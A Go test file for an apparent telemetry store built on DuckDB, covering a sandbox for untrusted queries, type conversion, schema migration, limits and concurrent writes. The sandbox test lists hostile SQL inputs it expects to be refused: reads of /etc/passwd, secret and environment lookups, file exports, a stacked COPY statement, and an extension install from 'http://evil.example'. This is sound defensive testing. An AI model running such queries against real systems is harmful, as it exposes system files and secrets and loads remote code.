package duckdb_test

import (
	"context"
	"database/sql"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	_ "github.com/duckdb/duckdb-go/v2" // the "duckdb" driver, to build an old schema
	"go.uber.org/goleak"

	"github.com/jobcast/jobcast"
	"github.com/jobcast/jobcast/duckdb"
	"github.com/jobcast/jobcast/internal/telemetrytest"
	"github.com/jobcast/jobcast/protocol"
)

func TestMain(m *testing.M) {
	if os.Getenv(crashEnv) != "" {
		crashChild()
		return
	}
	goleak.VerifyTestMain(m)
}

func open(t *testing.T, path string) *duckdb.Store {
	t.Helper()
	s, err := duckdb.Open(context.Background(), path, duckdb.Options{})
	if err != nil {
		t.Fatalf("Open(%s): %v", path, err)
	}
	return s
}

func TestStore(t *testing.T) {
	t.Parallel()
	telemetrytest.RunStoreTests(t, func(t *testing.T) jobcast.TelemetryStore {
		t.Helper()
		return open(t, filepath.Join(t.TempDir(), "telemetry.duckdb"))
	})
}

// closeOnCleanup closes s when t ends.
func closeOnCleanup(t *testing.T, s *duckdb.Store) {
	t.Helper()
	t.Cleanup(func() {
		if err := s.Close(); err != nil {
			t.Errorf("Close: %v", err)
		}
	})
}

// TestSandbox refuses what only DuckDB offers: its file readers and
// writers, ATTACH, extensions and settings.
func TestSandbox(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	s := open(t, filepath.Join(dir, "telemetry.duckdb"))
	closeOnCleanup(t, s)
	ctx := context.Background()
	if err := s.Write(ctx, []jobcast.Event{{TS: time.Now(), Event: jobcast.EventConnected}}); err != nil {
		t.Fatal(err)
	}
	secret := filepath.Join(dir, "secret.csv")
	if err := os.WriteFile(secret, []byte("a,b\n1,2\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(dir, "out.csv")
	const notSelect = "only a single SELECT statement is allowed"
	const files = "file access is disabled"
	for _, tc := range []struct{ q, msg string }{
		{"SELECT * FROM read_csv('/etc/passwd')", files},
		{"SELECT * FROM read_csv_auto('" + secret + "')", files},
		{"SELECT * FROM '" + secret + "'", files}, // a replacement scan
		{"SELECT * FROM read_parquet('/tmp/x.parquet')", files},
		{"SELECT * FROM read_json('/etc/hosts')", files},
		{"SELECT * FROM read_text('/etc/passwd')", files},
		{"SELECT * FROM read_blob('" + secret + "')", files},
		{"SELECT * FROM glob('/*')", files},
		{"SELECT * FROM sniff_csv('/etc/passwd')", files},
		{"SELECT * FROM parquet_metadata('/tmp/x.parquet')", files},
		{"SELECT * FROM read_csv('https://example.com/x.csv')", ""},
		{"SELECT * FROM read_duckdb('" + secret + "')", files},
		{"SELECT * FROM duckdb_secrets()", "not allowed"},
		// Table functions with side effects, or that run SQL from a string.
		{"SELECT * FROM query('DROP TABLE events')", "table function query is not allowed"},
		{"SELECT * FROM query('SELECT * FROM enable_logging()')", "not allowed"},
		{"SELECT * FROM query_table('events')", "not allowed"},
		{"SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))", "not allowed"},
		{"SELECT * FROM enable_logging()", "table function enable_logging is not allowed"},
		{"SELECT * FROM enable_profiling()", "not allowed"},
		{"SELECT * FROM disable_peg_parser()", "not allowed"},
		{"SELECT * FROM checkpoint()", "not allowed"},
		{"SELECT * FROM system.main.\"CHECKPOINT\"()", "not allowed"},
		{"SELECT * FROM force_checkpoint()", "not allowed"},
		{"SELECT * FROM truncate_duckdb_logs()", "not allowed"},
		{"SELECT * FROM arrow_scan(0, 0, 0)", "not allowed"},
		{"SELECT * FROM range((SELECT count(*) FROM enable_logging()))", "not allowed"},
		{"WITH x AS (SELECT * FROM enable_profiling()) SELECT * FROM events", "not allowed"},
		{"SELECT * FROM events, LATERAL (SELECT * FROM checkpoint())", "not allowed"},
		{"SELECT (SELECT count(*) FROM enable_logging()) AS n", "not allowed"},
		{"SELECT write_log('x')", "function write_log is not allowed"},
		{"ATTACH '" + filepath.Join(dir, "other.duckdb") + "' AS other", notSelect},
		{"DETACH other", notSelect},
		{"COPY events TO '" + out + "'", notSelect},
		{"COPY (SELECT * FROM events) TO '" + out + "' (FORMAT parquet)", notSelect},
		{"COPY events FROM '" + secret + "'", notSelect},
		{"EXPORT DATABASE '" + dir + "'", notSelect},
		{"INSTALL httpfs", notSelect},
		{"LOAD httpfs", notSelect},
		{"FORCE INSTALL httpfs FROM 'http://evil.example'", notSelect},
		{"SET enable_external_access = true", notSelect},
		{"SET memory_limit = '100GB'", notSelect},
		{"RESET lock_configuration", notSelect},
		{"SET VARIABLE x = 1", notSelect},
		{"PRAGMA enable_profiling", notSelect},
		{"PRAGMA version", notSelect},
		{"CALL checkpoint()", notSelect},
		{"CHECKPOINT", notSelect},
		{"VACUUM", notSelect},
		{"EXPLAIN ANALYZE SELECT 1", notSelect},
		{"BEGIN TRANSACTION", notSelect},
		{"COMMIT", notSelect},
		{"CREATE MACRO m(a) AS a", notSelect},
		{"CREATE SECRET s (TYPE s3, KEY_ID 'k', SECRET 's')", notSelect},
		{"CREATE SEQUENCE q", notSelect},
		{"SELECT nextval('q')", "function nextval is not allowed"},
		{"SELECT getenv('HOME')", "getenv"},
		{"SELECT 1; COPY events TO '" + out + "'", notSelect},
		{"SELECT * FROM events /*", "syntax error"},
		{"SELECT ? AS x", "parameters"},
		{"SELECT $name AS x", "parameters"},
		{"SELECT 1/0 AS x, 'a'::INTEGER AS y", "Could not convert"},
	} {
		_, err := s.QueryUntrusted(ctx, tc.q, jobcast.QueryLimits{Timeout: time.Minute, MaxRows: 10})
		var je *jobcast.Error
		if !errors.As(err, &je) || je.Code != protocol.ErrBadRequest || !strings.Contains(je.Message, tc.msg) {
			t.Errorf("QueryUntrusted(%q) = %v, want %s containing %q", tc.q, err, protocol.ErrBadRequest, tc.msg)
			continue
		}
		// The message never quotes the server's paths or DuckDB's
		// error class names.
		if strings.Contains(je.Message, dir) || strings.Contains(je.Message, "Error:") {
			t.Errorf("QueryUntrusted(%q) message %q leaks internals", tc.q, je.Message)
		}
	}
	// None of the refused side effects happened.
	rows, err := s.Query(ctx, "SELECT current_setting('enable_logging'), current_setting('enable_profiling')")
	if err != nil {
		t.Fatal(err)
	}
	if got := rows.Rows[0]; fmt.Sprint(got[0]) != "0" || got[1] != nil && got[1] != "" {
		t.Errorf("enable_logging, enable_profiling = %v after the refusals", got)
	}
	if _, err := os.Stat(out); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("%s exists after refused COPY ... TO: %v", out, err)
	}
	if _, err := os.Stat(filepath.Join(dir, "other.duckdb")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("ATTACH created its file: %v", err)
	}
	// Catalog functions and DESCRIBE stay available.
	for _, q := range []string{
		"DESCRIBE events", "SHOW TABLES", "SUMMARIZE events", "FROM events", "SELECT * FROM duckdb_tables()",
		"SELECT * FROM pragma_database_size()", "SELECT * FROM range(3) r, generate_series(1, 2) g",
		"SELECT unnest([1, 2]) AS x", "SELECT * FROM json_each('{\"a\": 1}')",
		// PIVOT's SQL-standard form; the short form (PIVOT events ON node)
		// is a statement of its own and refused.
		"SELECT * FROM (SELECT event, node FROM events) PIVOT (count(*) FOR node IN ('a', 'b'))",
	} {
		if _, err := s.QueryUntrusted(ctx, q, jobcast.QueryLimits{Timeout: time.Minute, MaxRows: 100}); err != nil {
			t.Errorf("QueryUntrusted(%q): %v", q, err)
		}
	}
	// The trusted path shares the locked configuration.
	if _, err := s.Query(ctx, "SET enable_external_access = true"); err == nil {
		t.Error("Query could change a locked setting")
	}
	if _, err := s.Query(ctx, "SELECT * FROM read_csv('/etc/passwd')"); err == nil {
		t.Error("Query could read /etc/passwd")
	}
}

// TestNormalize checks that values of every DuckDB type come back as one of
// Rows' types.
func TestNormalize(t *testing.T) {
	t.Parallel()
	s := open(t, filepath.Join(t.TempDir(), "telemetry.duckdb"))
	closeOnCleanup(t, s)
	rows, err := s.Query(context.Background(), `SELECT
		1::TINYINT, 2::SMALLINT, 3::INTEGER, 4::BIGINT, 5::HUGEINT, 6::UTINYINT, 7::UBIGINT,
		18446744073709551615::UBIGINT, 170141183460469231731687303715884105727::HUGEINT,
		1.5::FLOAT, 2.25::DECIMAL(10,2), sum(x), avg(x), 'a'::VARCHAR, true,
		'\x61\x62'::BLOB, '00000000-0000-0000-0000-00000000002a'::UUID, INTERVAL '1 month 2 days 3 hours',
		DATE '2025-11-26', TIMESTAMP '2025-11-26 05:00:00.123456', NULL, [1, 2], {'a': 1, 'b': 'x'},
		MAP {'k': 1.5}, '{"j": [1]}'::JSON
		FROM (VALUES (10), (20)) t(x)`)
	if err != nil {
		t.Fatal(err)
	}
	exp := []any{
		int64(1), int64(2), int64(3), int64(4), int64(5), int64(6), int64(7),
		float64(18446744073709551615), 1.7014118346046923e38,
		1.5, 2.25, int64(30), 15.0, "a", true,
		"ab", "00000000-0000-0000-0000-00000000002a", "1 month 2 days 03:00:00",
		time.Date(2025, 11, 26, 0, 0, 0, 0, time.UTC), time.Date(2025, 11, 26, 5, 0, 0, 123456000, time.UTC), nil,
		"[1,2]", `{"a":1,"b":"x"}`, `{"k":1.5}`, `{"j":[1]}`,
	}
	got := rows.Rows[0]
	for i := range exp {
		if gt, ok := got[i].(time.Time); ok {
			if et, ok := exp[i].(time.Time); !ok || !gt.Equal(et) {
				t.Errorf("column %d (%s) = %v, want %v", i, rows.Columns[i], gt, exp[i])
			}
			continue
		}
		if got[i] != exp[i] {
			t.Errorf("column %d (%s) = %#v (%T), want %#v (%T)", i, rows.Columns[i], got[i], got[i], exp[i], exp[i])
		}
	}
}

func TestReopenKeepsEvents(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	// A data dir that does not exist yet is created.
	path := filepath.Join(t.TempDir(), "data", "telemetry.duckdb")
	s := open(t, path)
	if err := s.Write(ctx, []jobcast.Event{{TS: time.Now(), Event: jobcast.EventConnected, SampleInterval: 3}}); err != nil {
		t.Fatal(err)
	}
	if err := s.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	if err := s.Close(); err != nil {
		t.Errorf("second Close: %v", err)
	}
	if err := s.Write(ctx, []jobcast.Event{{Event: "x"}}); err == nil {
		t.Error("Write after Close succeeded")
	}
	s = open(t, path)
	closeOnCleanup(t, s)
	rows, err := s.Query(ctx, "SELECT event, sample_interval FROM events")
	if err != nil {
		t.Fatal(err)
	}
	if len(rows.Rows) != 1 || rows.Rows[0][0] != "connected" || rows.Rows[0][1] != int64(3) {
		t.Errorf("after reopen: %v", rows.Rows)
	}
}

// TestMigrateAddsColumns opens a file whose events table predates some
// columns: Open adds them with their zero values, and writes land in the
// right columns although the table's column order differs from a new one's.
func TestMigrateAddsColumns(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	path := filepath.Join(t.TempDir(), "old.duckdb")
	db, err := sql.Open("duckdb", path)
	if err != nil {
		t.Fatal(err)
	}
	// An old schema: fewer columns, in another order.
	if _, err := db.Exec(`CREATE TABLE events (event VARCHAR, ts TIMESTAMP, job_id VARCHAR);
		INSERT INTO events VALUES ('connected', TIMESTAMP '2025-11-26 05:00:00', 'old-job')`); err != nil {
		t.Fatal(err)
	}
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}
	s := open(t, path)
	closeOnCleanup(t, s)
	if err := s.Write(ctx, []jobcast.Event{{TS: time.Now(), Event: jobcast.EventError, JobID: "new-job", ErrorCode: "E_X", CloseCode: 4001}}); err != nil {
		t.Fatal(err)
	}
	rows, err := s.Query(ctx, "SELECT event, job_id, error_code, close_code, sample_interval, retryable FROM events ORDER BY ts")
	if err != nil {
		t.Fatal(err)
	}
	got := rows.Rows
	if len(got) != 2 {
		t.Fatalf("rows = %v", got)
	}
	for i, exp := range [][]any{{"connected", "old-job", "", int64(0), int64(1), false}, {"error", "new-job", "E_X", int64(4001), int64(1), false}} {
		for j := range exp {
			if got[i][j] != exp[j] {
				t.Errorf("row %d %s = %#v, want %#v", i, rows.Columns[j], got[i][j], exp[j])
			}
		}
	}
}

func TestOpenRefuses(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	dir := t.TempDir()
	for _, path := range []string{"", filepath.Join(dir, "a?b.duckdb"), filepath.Join(dir, "a#b.duckdb")} {
		if s, err := duckdb.Open(ctx, path, duckdb.Options{}); err == nil {
			s.Close()
			t.Errorf("Open(%q) succeeded", path)
		}
	}
	if s, err := duckdb.Open(ctx, filepath.Join(dir, "t.duckdb"), duckdb.Options{MemoryLimit: "lots"}); err == nil {
		s.Close()
		t.Error("Open with MemoryLimit \"lots\" succeeded")
	}
	if s, err := duckdb.Open(ctx, filepath.Join(dir, "t.duckdb"), duckdb.Options{Threads: -1}); err == nil {
		s.Close()
		t.Error("Open with Threads -1 succeeded")
	}
	// A table with a column this version does not know.
	path := filepath.Join(dir, "newer.duckdb")
	db, err := sql.Open("duckdb", path)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec(`CREATE TABLE events (ts TIMESTAMP, from_the_future VARCHAR)`); err != nil {
		t.Fatal(err)
	}
	db.Close()
	if s, err := duckdb.Open(ctx, path, duckdb.Options{}); err == nil || !strings.Contains(err.Error(), "from_the_future") {
		if err == nil {
			s.Close()
		}
		t.Errorf("Open of a newer table = %v, want an error naming the column", err)
	}
}

func TestOptions(t *testing.T) {
	t.Parallel()
	s, err := duckdb.Open(context.Background(), filepath.Join(t.TempDir(), "t.duckdb"), duckdb.Options{MemoryLimit: "256MiB", Threads: 1, CheckpointThreshold: "1MB"})
	if err != nil {
		t.Fatal(err)
	}
	closeOnCleanup(t, s)
	rows, err := s.Query(context.Background(), "SELECT current_setting('memory_limit'), current_setting('threads'), current_setting('checkpoint_threshold')")
	if err != nil {
		t.Fatal(err)
	}
	if got := rows.Rows[0]; got[0] != "256.0 MiB" || got[1] != int64(1) || got[2] != "976.5 KiB" {
		t.Errorf("memory_limit, threads = %v", got)
	}
}

// TestMemoryLimit: a query that needs more memory than Options.MemoryLimit
// fails as a bad request, and the store goes on serving.
func TestMemoryLimit(t *testing.T) {
	t.Parallel()
	s, err := duckdb.Open(context.Background(), filepath.Join(t.TempDir(), "t.duckdb"), duckdb.Options{MemoryLimit: "64MB"})
	if err != nil {
		t.Fatal(err)
	}
	closeOnCleanup(t, s)
	const q = "SELECT max(length(l)) AS n FROM (SELECT list(i) AS l FROM range(50000000) t(i))"
	_, err = s.QueryUntrusted(context.Background(), q, jobcast.QueryLimits{Timeout: time.Minute, MaxRows: 10})
	var je *jobcast.Error
	if !errors.As(err, &je) || je.Code != protocol.ErrBadRequest || !strings.Contains(je.Message, "memory limit") {
		t.Errorf("QueryUntrusted(%q) = %v, want a bad request about the memory limit", q, err)
	}
	if _, err := s.QueryUntrusted(context.Background(), "SELECT count(*) FROM events", jobcast.QueryLimits{}); err != nil {
		t.Errorf("next query: %v", err)
	}
}

// failingCtx is a context that is canceled from its n-th Err call on, so a
// test can cut a Write short at each point where it looks at its context.
// With doneEarly its Done channel is closed from the start, so that
// duckdb-go interrupts every DuckDB call it makes before Err reports it.
type failingCtx struct {
	context.Context
	mu    sync.Mutex
	calls int
	n     int
	done  chan struct{}
}

func newFailingCtx(n int, doneEarly bool) *failingCtx {
	c := &failingCtx{Context: context.Background(), n: n, done: make(chan struct{})}
	if doneEarly {
		close(c.done)
		c.n = -n
	}
	return c
}

func (c *failingCtx) Err() error {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.calls++
	if c.calls == c.n {
		close(c.done)
	}
	if c.calls >= c.n && c.n > 0 || c.n < 0 && c.calls >= -c.n {
		return context.Canceled
	}
	return nil
}

func (c *failingCtx) Done() <-chan struct{} { return c.done }

// TestWriteCanceledIsAtomic cancels a Write at every point it checks its
// context: a Write that fails leaves nothing behind, and the next Write
// works (a flush that was interrupted discards the Appender).
func TestWriteCanceledIsAtomic(t *testing.T) {
	t.Parallel()
	s := open(t, filepath.Join(t.TempDir(), "t.duckdb"))
	closeOnCleanup(t, s)
	batch := make([]jobcast.Event, 3000) // more than one 2048-row chunk
	for i := range batch {
		batch[i] = jobcast.Event{TS: time.Now(), Event: jobcast.EventHeartbeat}
	}
	var want int64
	failed := 0
	for i := 2; i < 80; i++ {
		n, doneEarly := i/2, i%2 == 1
		if err := s.Write(newFailingCtx(n, doneEarly), batch); err != nil {
			failed++
		} else {
			want += int64(len(batch))
		}
		rows, err := s.Query(context.Background(), "SELECT count(*) FROM events")
		if err != nil {
			t.Fatal(err)
		}
		if got := rows.Rows[0][0]; got != want {
			t.Fatalf("cancel at Err call %d (Done closed early: %v): %v events, want %d", n, doneEarly, got, want)
		}
	}
	if failed == 0 {
		t.Fatal("no Write failed: the context is never looked at")
	}
	if err := s.Write(context.Background(), batch); err != nil {
		t.Fatalf("Write after canceled ones: %v", err)
	}
}

// TestConcurrentWrites writes from more goroutines than the store has
// writer connections, half the events through each appender, and checks
// that every event is in the table exactly once.
func TestConcurrentWrites(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	s, err := duckdb.Open(ctx, filepath.Join(t.TempDir(), "telemetry.duckdb"), duckdb.Options{Writers: 2})
	if err != nil {
		t.Fatal(err)
	}
	closeOnCleanup(t, s)
	if got := s.Writers(); got != 2 {
		t.Fatalf("Writers() = %d, want 2", got)
	}
	const goroutines, batches, size = 4, 8, 1000
	ts := time.Date(2026, 1, 2, 3, 0, 0, 0, time.UTC)
	var wg sync.WaitGroup
	for g := range goroutines {
		wg.Go(func() {
			for b := range batches {
				evs := make([]jobcast.Event, size)
				for i := range evs {
					id := int64((g*batches+b)*size + i + 1)
					evs[i] = jobcast.Event{TS: ts.Add(time.Duration(id) * time.Millisecond), Event: jobcast.EventHeartbeat,
						JobID: fmt.Sprintf("j%d", id), ReconnectCount: id}
					if id%2 == 0 { // through the full appender
						evs[i].Event, evs[i].ReconnectCount, evs[i].DurationMs = jobcast.EventJobCompleted, 0, id
					}
				}
				if err := s.Write(ctx, evs); err != nil {
					t.Errorf("Write: %v", err)
					return
				}
			}
		})
	}
	wg.Wait()
	rows, err := s.Query(ctx, `SELECT count(*), count(DISTINCT job_id), sum(reconnect_count + duration_ms)::BIGINT FROM events`)
	if err != nil {
		t.Fatal(err)
	}
	const n = goroutines * batches * size
	got := fmt.Sprint(rows.Rows[0]...)
	if want := fmt.Sprint(int64(n), int64(n), int64(n*(n+1)/2)); got != want {
		t.Fatalf("count, distinct ids, sum of ids = %s, want %s", got, want)
	}
}
